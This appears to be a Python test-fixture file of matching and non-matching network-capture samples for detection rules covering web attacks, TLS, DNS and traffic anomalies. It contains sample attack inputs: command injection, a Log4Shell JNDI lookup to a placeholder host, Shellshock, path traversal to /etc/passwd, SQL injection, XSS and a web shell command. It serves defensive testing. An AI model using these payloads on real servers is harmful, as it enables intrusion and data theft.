"""Scenes of rules for network captures: attacks on web servers, and conditions that are worth a look without being attacks."""

from __future__ import annotations

from typing import Any

from scenes import Scene, scene
from scenes_captures import LEAF, names, one, seen, talk, talks

PAGE = {"method": "GET", "host": "shop.example", "status": 200}


def asked(hit: dict[str, Any], miss: dict[str, Any]) -> Scene:
    """A scene of HTTP requests."""
    return one("http", {**PAGE, **hit}, {**PAGE, **miss})


def hello(hit: dict[str, Any], miss: dict[str, Any]) -> Scene:
    """A scene of TLS handshakes."""
    return one("tls", {"protocol": "TLS", "server_port": 443, **hit}, {"protocol": "TLS", "server_port": 443, **miss})


def resolved(hit: dict[str, Any], miss: dict[str, Any], count: int = 1) -> Scene:
    """A scene of names that were asked for."""
    return scene("network.dns", names("DNS", count, **hit), names("DNS", count, **miss))


def failing(name: str) -> dict[str, Any]:
    return {"name": name, "domain": name, "response_code": "NXDOMAIN"}


SCENES: dict[str, Scene] = {
    # attacks on web servers
    "capture.command_injection": asked(
        {"query_decoded": "host=192.0.2.1; cat /etc/hosts"}, {"query_decoded": "title=cats; dogs and cat food"}
    ),
    "capture.log4shell": asked(
        {"uri": "/", "user_agent": "${jndi:ldap://x.example/a}"}, {"uri": "/doc?q=jndi", "user_agent": "Mozilla/5.0"}
    ),
    "capture.path_traversal": asked({"uri": "/get?f=../../etc/passwd"}, {"uri": "/get?f=a..b/passwd"}),
    "capture.remote_shell_http": asked(
        {"method": "POST", "path": "/wsman", "uri": "/wsman"}, {"method": "GET", "path": "/wsman", "uri": "/wsman"}
    ),
    "capture.scanner_agent": asked(
        {"user_agent": "sqlmap/1.8"}, {"user_agent": "Mozilla/5.0 (compatible; Googlebot/2.1)"}
    ),
    "capture.shellshock": asked({"user_agent": "() { :;}; /bin/id"}, {"user_agent": "Mozilla/5.0 () like Gecko"}),
    "capture.sql_injection": asked(
        {"query_decoded": "id=1 union select name from users"}, {"query_decoded": "q=student union, select a society"}
    ),
    "capture.web_shell": asked(
        {"path": "/up/a.php", "query": "cmd=whoami"}, {"path": "/up/a.php", "query": "cmd=whoami", "status": 404}
    ),
    "capture.xss": asked({"query_decoded": "q=<script>alert(1)</script>"}, {"query_decoded": "q=a < b and script > c"}),
    # HTTP
    "risk.http_bot": asked(
        {"user_agent": "Mozilla/5.0 (compatible; Googlebot/2.1)"}, {"user_agent": "Mozilla/5.0 (CUBOT X30; Android 10)"}
    ),
    "risk.http_error": asked({"status": 404}, {"status": 304}),
    "risk.http_header": asked(
        {"odd_headers": {"x-api": "${jndi:ldap://x.example/a}"}}, {"odd_headers": {"referer": "this or 'or that"}}
    ),
    "risk.http_obsolete_server": asked({"server": "Apache/2.4.29 (Ubuntu)"}, {"server": "Apache/2.4.58 (Ubuntu)"}),
    "risk.http_odd_port_content": asked(
        {"uri": "/logo.png", "response_body_type": "PE executable"}, {"uri": "/logo.png", "response_body_type": "PNG"}
    ),
    "risk.http_suspicious_url": asked({"uri": "/.env"}, {"uri": "/environment"}),
    # files, log-ins, programs
    "risk.anonymous_subscriber": one(
        "credential", {"protocol": "FTP", "user": "anonymous"}, {"protocol": "FTP", "user": "anna"}
    ),
    "risk.binary_transfer": one(
        "file", {"name": "setup.msi", "direction": "to the client"}, {"name": "setup.msi", "direction": "to the server"}
    ),
    "risk.ssh_obsolete_client": one(
        "ssh", {"client_version": "SSH-2.0-PuTTY_Release_0.62"}, {"client_version": "SSH-2.0-PuTTY_Release_0.81"}
    ),
    "risk.malformed": one(
        "capture", {"malformed_packets": 1, "packets": 90}, {"packets": 90, "cut_packets_bytes": 900}
    ),
    # TLS
    "risk.certificate_long_lived": one(
        "certificate", {**LEAF, "valid_days": 3650}, {**LEAF, "chain_place": 1, "valid_days": 3650}
    ),
    "risk.certificate_mismatch": one(
        "certificate", {**LEAF, "name_differs": True}, {**LEAF, "common_name": "*.example"}
    ),
    "risk.encrypted_hello": hello({"encrypted_client_hello": True}, {"server_name": "host.example"}),
    "risk.tls_alert": hello({"server_alert": "handshake failure"}, {"server_alert": "close notify"}),
    "risk.tls_odd_port": hello({"server_port": 4444}, {"server_port": 8443}),
    "risk.uncommon_alpn": hello({"alpn": ["teamviewer"]}, {"alpn": ["h2", "http/1.1"]}),
    # names
    "risk.dga_failures": resolved(failing("q7xk2m9{n}vt.com"), failing("q7xk2m9vt.com"), 15),
    "risk.dns_error": resolved({"name": "a.example", "response_code": "SERVFAIL"}, {"response_code": "NOERROR"}),
    "risk.dns_large": resolved({"type": "TXT", "text": "v" * 400}, {"type": "TXT", "text": "v=spf1 -all"}),
    "risk.dns_suspicious": resolved(
        {"name": "{n}.zone.example", "type": "TYPE65399"}, {"name": "{n}.zone.example", "type": "AAAA"}, 3
    ),
    "risk.idn": scene(
        "network.dns",
        seen(message="query", name="xn--bcher-kva.example", type="A"),
        seen(message="query", name="max--bcher.example", type="A"),
    ),
    # conversations
    "risk.desktop_or_file_sharing": talks(
        talk(protocol="RSYNC", payload_down=900, server_port=873),
        talk(protocol="RSYNC", payload_down=0, server_port=873),
    ),
    "risk.periodic": talks(
        talk(20, 60, server_port=443, payload_up=300, bytes=4000),
        talk(20, 60, server_port=443, payload_up=300, bytes=4000, server_address="192.168.1.5"),
    ),
    "risk.tcp_issues": talks(talk(server_port=443, outcome="refused"), talk(server_port=443, outcome="closed")),
    "risk.unidirectional": talks(
        talk(transport="udp", packets_up=3, packets_down=0, server_port=4444),
        talk(transport="udp", packets_up=3, packets_down=0, server_address="239.255.255.250", server_port=1900),
    ),
    "risk.unsafe_protocol": talks(
        talk(protocol="FTP_CONTROL", payload_down=400, server_port=21),
        talk(protocol="FTPS", payload_down=400, server_port=990),
    ),
}
